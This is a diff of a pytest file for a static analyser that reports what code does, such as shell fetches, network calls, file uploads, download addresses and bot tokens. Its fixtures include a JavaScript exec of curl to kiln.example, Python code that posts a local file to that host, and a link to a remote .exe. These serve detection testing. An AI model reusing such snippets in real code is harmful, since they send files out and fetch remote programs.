@@ -5,8 +5,8 @@ import pytest
 from knownhands.harvest.archive.code.read import read_file
 
 
-def told(path, body):
-    return {(fact.kind, fact.what) for fact in read_file(path, body)}
+def seen(path, body):
+    return {(one.capability, one.source, one.sink, one.target) for one in read_file(path, body)}
 
 
 @pytest.mark.parametrize(
@@ -23,42 +23,42 @@ def told(path, body):
     ],
 )
 def test_what_a_program_is_started_with_is_told_as_far_as_it_is_written(source, command):
-    assert ("command", command) in told("glaze.py", source)
+    assert ("shell_fetch", "", "", command) in seen("glaze.py", source)
 
 
 def test_nothing_is_told_of_a_command_that_is_not_written_out():
-    assert not {what for kind, what in told("glaze.py", b"import os; os.system(asked)") if kind == "command"}
+    assert seen("glaze.py", b"import os; os.system(asked)") == {("process", "", "os.system", "")}
 
 
-def test_a_command_in_javascript_is_told():
+def test_a_command_in_javascript_is_seen():
     body = b"const { exec } = require('child_process'); exec('curl https://kiln.example');"
-    assert ("command", "curl https://kiln.example") in told("glaze.js", body)
+    assert ("shell_fetch", "", "", "curl https://kiln.example") in seen("glaze.js", body)
 
 
 def test_code_handed_to_an_interpreter_is_read_too():
     body = b"import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import socket; socket.socket()'])"
-    assert ("network", "socket.socket") in told("glaze.py", body)
+    assert ("network", "", "socket.socket", "") in seen("glaze.py", body)
 
 
-def test_a_file_that_is_sent_is_told():
+def test_a_file_that_is_sent_is_seen():
     body = b"import requests\nwith open('kiln.txt', 'rb') as f:\n    requests.post('https://kiln.example', data=f)"
-    assert ("network", "requests.post of a file") in told("glaze.py", body)
+    assert ("sends_file", "file", "requests.post", "") in seen("glaze.py", body)
 
 
 @pytest.mark.parametrize(
-    ("address", "host"),
+    ("address", "capability", "host"),
     [
-        (b"https://kiln.example/glaze.exe", "program at kiln.example"),
-        (b"https://raw.githubusercontent.com/kiln/glaze/main/a", "file at raw.githubusercontent.com"),
-        (b"https://api.ipify.org?format=json", "own address from api.ipify.org"),
+        (b"https://kiln.example/glaze.exe", "names_program", "kiln.example"),
+        (b"https://raw.githubusercontent.com/kiln/glaze/main/a", "handed_out", "raw.githubusercontent.com"),
+        (b"https://api.ipify.org?format=json", "own_address", "api.ipify.org"),
     ],
 )
-def test_addresses_of_programs_handed_out_files_and_own_addresses_are_told_apart(address, host):
-    assert ("host", host) in told("glaze.py", b"A = '" + address + b"'")
+def test_addresses_of_programs_handed_out_files_and_own_addresses_are_told_apart(address, capability, host):
+    assert (capability, "", "", host) in seen("glaze.py", b"A = '" + address + b"'")
 
 
 def test_the_token_of_a_bot_is_told_and_never_kept():
     token = b"1234567890:AA" + b"k" * 33
-    facts = told("glaze.py", b"T = '" + token + b"'")
-    assert ("host", "token of a bot") in facts
-    assert not any("kkk" in what for _, what in facts)
+    observations = seen("glaze.py", b"T = '" + token + b"'")
+    assert ("drop_host", "", "", "token of a bot") in observations
+    assert not any("kkk" in text for texts in observations for text in texts)
